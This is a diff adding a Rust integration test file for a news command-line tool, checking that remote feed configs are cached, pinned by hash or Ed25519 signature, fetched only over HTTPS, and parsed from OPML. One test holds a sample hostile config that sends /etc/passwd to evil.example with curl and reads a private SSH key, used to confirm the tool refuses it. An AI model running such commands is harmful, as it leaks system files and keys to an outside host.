@@ -0,0 +1,239 @@
+//! `--feeds` pointing at a shared config.toml or OPML list on a server.
+
+use base64::{engine::general_purpose::STANDARD, Engine};
+use news_cli::config::opml;
+use news_cli::config::remote::{check, check_unpinned, Verify};
+use ring::signature::{Ed25519KeyPair, KeyPair};
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+// Serves `files` (path, body) for `requests` requests, then stops listening
+fn serve(files: Vec<(&'static str, Vec<u8>)>, requests: usize) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for stream in listener.incoming().take(requests) {
+            let mut stream = stream.unwrap();
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut line = String::new();
+            reader.read_line(&mut line).unwrap();
+            let path = line.split_whitespace().nth(1).unwrap_or("").to_string();
+            while reader.read_line(&mut line).unwrap() > 2 {
+                line.clear();
+            }
+            let (status, body) = match files.iter().find(|(p, _)| *p == path) {
+                Some((_, body)) => ("200 OK", body.clone()),
+                None => ("404 Not Found", Vec::new()),
+            };
+            let head = format!("HTTP/1.1 {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", status, body.len());
+            stream.write_all(head.as_bytes()).unwrap();
+            stream.write_all(&body).unwrap();
+        }
+    });
+    base
+}
+
+fn state(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("news-cli-remote-{}-{}", name, std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+fn fetch(state: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_news-cli"))
+        .arg("--fixture-http")
+        .args(args)
+        .args(["fetch", "--to", "json"])
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .env("HOME", state)
+        .env("XDG_STATE_HOME", state.join("state"))
+        .env("XDG_CACHE_HOME", state.join("cache"))
+        .env_remove("LC_ALL")
+        .env_remove("LC_MESSAGES")
+        .env_remove("LANG")
+        .output()
+        .expect("run news-cli fetch")
+}
+
+fn sources(out: &Output) -> Vec<String> {
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let mut sources: Vec<String> = stdout
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["source"].as_str().unwrap().to_string())
+        .collect();
+    sources.dedup();
+    sources
+}
+
+// A config with a local file feed, which only a pinned one may fetch
+fn team_config() -> Vec<u8> {
+    let world = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/world.xml");
+    format!("[[feeds]]\nname = \"World\"\nurl = \"{}\"\n", world.display()).into_bytes()
+}
+
+fn sha256(body: &[u8]) -> String {
+    ring::digest::digest(&ring::digest::SHA256, body).as_ref().iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+#[test]
+fn remote_config_is_cached_for_starts_without_the_server() {
+    let state = state("cache");
+    let base = serve(vec![("/team.toml", team_config())], 1);
+    let url = format!("{}/team.toml", base);
+    let pin = sha256(&team_config());
+    let out = fetch(&state, &["--feeds", &url, "--feeds-sha256", &pin]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sources(&out), ["World"]);
+
+    // The server is gone now
+    let out = fetch(&state, &["--feeds", &url, "--feeds-sha256", &pin]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sources(&out), ["World"]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains(&format!("Could not fetch {}", url)), "{}", stderr);
+    assert!(stderr.contains("using the copy from the last start"), "{}", stderr);
+}
+
+#[test]
+fn remote_config_must_match_its_pins() {
+    let config = team_config();
+    let pair = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap();
+    let key = STANDARD.encode(pair.public_key().as_ref());
+    let signature = STANDARD.encode(pair.sign(&config).as_ref());
+    let state = state("signed");
+    let base = serve(vec![("/team.toml", config.clone()), ("/team.toml.sig", signature.clone().into_bytes())], 4);
+    let url = format!("{}/team.toml", base);
+    let out = fetch(&state, &["--feeds", &url, "--feeds-key", &key]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sources(&out), ["World"]);
+
+    let other = Ed25519KeyPair::from_seed_unchecked(&[8; 32]).unwrap();
+    let out = fetch(&state, &["--feeds", &url, "--feeds-key", &STANDARD.encode(other.public_key().as_ref())]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("signature doesn't match --feeds-key"), "{}", stderr);
+
+    let pinned = Verify { sha256: Some(sha256(&config).to_uppercase()), key: None };
+    assert!(check(&config, None, &pinned).is_ok());
+    let err = check(b"feeds = []", None, &pinned).unwrap_err().to_string();
+    assert!(err.contains("checksum mismatch"), "{}", err);
+    // Raw signature bytes work as well as base64
+    let signed = Verify { sha256: None, key: Some(key) };
+    assert!(check(&config, Some(pair.sign(&config).as_ref()), &signed).is_ok());
+    let err = check(&config, None, &signed).unwrap_err().to_string();
+    assert!(err.contains("no signature"), "{}", err);
+}
+
+#[test]
+fn remote_configs_need_https() {
+    let state = state("http");
+    let out = fetch(&state, &["--feeds", "http://example.com/team.toml"]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("only fetched over https"), "{}", stderr);
+
+    // Plain http from this machine is for tests' servers only
+    let out = Command::new(env!("CARGO_BIN_EXE_news-cli"))
+        .args(["--feeds", "http://127.0.0.1:9/team.toml", "fetch"])
+        .env("HOME", &state)
+        .env("XDG_CACHE_HOME", state.join("cache"))
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("only fetched over https"));
+}
+
+#[test]
+fn unpinned_remote_configs_are_fetched_strictly() {
+    let state = state("unpinned");
+    let base = serve(vec![("/team.toml", team_config())], 1);
+    let out = fetch(&state, &["--feeds", &format!("{}/team.toml", base), "--set", "fetch.strict=false"]);
+    assert!(sources(&out).is_empty());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("is a local file; [fetch] strict = true only fetches http(s) URLs"), "{}", stderr);
+}
+
+#[test]
+fn unpinned_remote_configs_cant_run_commands_or_use_secrets() {
+    let config = br#"
+include = ["more.toml"]
+open_command = "curl -d @/etc/passwd https://evil.example"
+
+[[feeds]]
+name = "Tool"
+kind = "command"
+command = "sh -c 'cat ~/.ssh/id_ed25519'"
+
+[[feeds]]
+name = "Mail"
+kind = "imap"
+instance = "imap.evil.example"
+
+[[feeds]]
+name = "Hub"
+kind = "github"
+instance = "api.evil.example"
+account = "me"
+token = "secret:github"
+
+[sync]
+backend = "miniflux"
+url = "https://evil.example"
+"#;
+    let err = check_unpinned("https://example.com/team.toml", Path::new("team.toml"), config).unwrap_err().to_string();
+    for refused in [
+        "include",
+        "open_command",
+        "sync",
+        "feeds \"Tool\" kind = \"command\"",
+        "feeds \"Mail\" kind = \"imap\"",
+        "feeds \"Hub\" instance",
+        "feeds.2.token = \"secret:…\"",
+        "unless it is pinned with --feeds-sha256 or --feeds-key",
+    ] {
+        assert!(err.contains(refused), "{} not in {}", refused, err);
+    }
+    assert!(check_unpinned("https://example.com/team.toml", Path::new("team.toml"), &team_config()).is_ok());
+    let social = b"[[feeds]]\nname = \"Social\"\nkind = \"mastodon\"\ninstance = \"social.example\"\naccount = \"#rust\"\n";
+    assert!(check_unpinned("https://example.com/team.toml", Path::new("team.toml"), social).is_ok());
+
+    // The same file from the server is refused without a pin, and used with one
+    let config = format!("open_command = \"true\"\n\n{}", String::from_utf8(team_config()).unwrap()).into_bytes();
+    let state = state("pinned-commands");
+    let base = serve(vec![("/team.toml", config.clone())], 2);
+    let url = format!("{}/team.toml", base);
+    let out = fetch(&state, &["--feeds", &url]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("can't set open_command unless it is pinned"), "{}", stderr);
+    let out = fetch(&state, &["--feeds", &url, "--feeds-sha256", &sha256(&config)]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sources(&out), ["World"]);
+}
+
+#[test]
+fn opml_outlines_become_feeds_with_their_folder_as_category() {
+    let xml = r#"<?xml version="1.0"?>
+<opml version="2.0"><head><title>Team feeds</title></head><body>
+  <outline text="Tech">
+    <outline type="rss" text="HN" title="Hacker News &amp; co" xmlUrl="https://hnrss.org/frontpage"/>
+    <outline type="rss" text="LWN" xmlUrl="https://lwn.net/headlines/rss"></outline>
+  </outline>
+  <outline type="rss" text="BBC World" xmlUrl="https://feeds.bbci.co.uk/news/world/rss.xml"/>
+</body></opml>"#;
+    let feeds = opml::feeds(xml).unwrap();
+    let got: Vec<(&str, &str, Option<&str>)> =
+        feeds.iter().map(|f| (f.name.as_str(), f.url.as_str(), f.category.as_deref())).collect();
+    assert_eq!(
+        got,
+        [
+            ("Hacker News & co", "https://hnrss.org/frontpage", Some("tech")),
+            ("LWN", "https://lwn.net/headlines/rss", Some("tech")),
+            ("BBC World", "https://feeds.bbci.co.uk/news/world/rss.xml", None),
+        ]
+    );
+    assert!(opml::feeds("<opml><body></body></opml>").is_err());
+}